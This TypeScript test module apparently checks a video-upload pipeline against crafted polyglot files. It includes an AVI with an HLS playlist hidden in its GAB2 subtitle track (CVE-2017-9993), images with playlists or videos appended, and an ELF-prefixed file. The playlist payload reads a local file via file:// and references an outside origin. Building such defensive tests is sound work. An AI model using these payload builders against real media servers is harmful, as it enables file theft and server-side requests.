/** Attacks by files that are two things at the same time, or carry the second inside. */
import type { Attack, Bait } from './attack.ts';

const chunk = (id: string, ...parts: Buffer[]): Buffer => {
  const content = Buffer.concat(parts);
  const head = Buffer.alloc(8);
  head.write(id, 0, 'latin1');
  head.writeUInt32LE(content.length, 4);
  return Buffer.concat([head, content, Buffer.alloc(content.length % 2)]);
};

const list = (id: string, ...chunks: Buffer[]): Buffer => chunk('LIST', Buffer.from(id), ...chunks);

const littleEndian32 = (...values: number[]): Buffer => {
  const bytes = Buffer.alloc(values.length * 4);
  for (const [index, value] of values.entries()) bytes.writeUInt32LE(value >>> 0, index * 4);
  return bytes;
};

/**
 * An AVI whose subtitle track (GAB2) holds a playlist: the demuxer looks for a fitting demuxer inside, which once was HLS
 * (CVE-2017-9993).
 */
const aviWithPlaylist = (frame: Buffer, playlist: string): Buffer => {
  const main = littleEndian32(100_000, 0, 0, 0x10, 10, 0, 2, 0, 160, 120, 0, 0, 0, 0);
  const stream = (kind: string, codec: string): Buffer =>
    chunk('strh', Buffer.from(kind + codec), littleEndian32(0, 0, 0, 1, 10, 0, 10, 0, 0, 0, 0, 0));
  const picture = chunk(
    'strf',
    littleEndian32(40, 160, 120, 0x00180001, 0x34504d46, 160 * 120 * 3, 0, 0, 0, 0),
  );
  const name = Buffer.from('a\0', 'utf16le');
  const subtitles = Buffer.concat([
    Buffer.from('GAB2\0\x02\0', 'latin1'),
    littleEndian32(name.length),
    name,
    Buffer.from([4, 0]),
    littleEndian32(playlist.length),
    Buffer.from(playlist),
  ]);
  const header = list(
    'hdrl',
    chunk('avih', main),
    list('strl', stream('vids', 'FMP4'), picture),
    list('strl', stream('txts', '\0\0\0\0'), chunk('strf')),
  );
  return chunk(
    'RIFF',
    Buffer.from('AVI '),
    header,
    list('movi', chunk('01tx', subtitles), ...Array.from({ length: 10 }, () => chunk('00dc', frame))),
  );
};

export interface PolyglotParts {
  video: Buffer;
  /** One MPEG-4 part 2 picture with its headers. */
  frame: Buffer;
  jpeg: Buffer;
  png: Buffer;
}

export const polyglotAttacks = (
  { video, frame, jpeg, png }: PolyglotParts,
  { canary, origin }: Bait,
): Attack[] => {
  const playlist = `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nfile://${canary}\n#EXTINF:1,\n${origin}/gab2\n#EXT-X-ENDLIST\n`;
  const concat = `ffconcat version 1.0\nfile '${canary}'\n`;
  return [
    {
      name: 'playlist in the subtitles of an AVI',
      fileName: 'gab2.avi',
      bytes: aviWithPlaylist(frame, playlist),
      outcome: 'harmless',
    },
    { name: 'JPEG', fileName: 'jpeg.mp4', bytes: jpeg, outcome: 'no video' },
    { name: 'PNG', fileName: 'png.mov', bytes: png, outcome: 'no video' },
    {
      name: 'JPEG with a playlist behind',
      fileName: 'jpeg-hls.mp4',
      bytes: Buffer.concat([jpeg, Buffer.from(playlist)]),
      outcome: 'no video',
    },
    {
      name: 'GIF that starts a playlist',
      fileName: 'gif-hls.mp4',
      bytes: Buffer.from(`GIF89a\n${playlist}`),
      outcome: 'no video',
    },
    {
      name: 'PNG with a video behind',
      fileName: 'png-film.mp4',
      bytes: Buffer.concat([png, video]),
      outcome: 'no video',
    },
    {
      name: 'video with a playlist behind',
      fileName: 'film-hls.mp4',
      bytes: Buffer.concat([video, Buffer.from(playlist), Buffer.from(concat)]),
      outcome: 'harmless',
    },
    {
      name: 'playlist before a video',
      fileName: 'hls-film.mp4',
      bytes: Buffer.concat([Buffer.from(playlist), video]),
      outcome: 'refused',
    },
    {
      name: 'program',
      fileName: 'program.mkv',
      bytes: Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), video]),
      outcome: 'refused',
    },
  ];
};
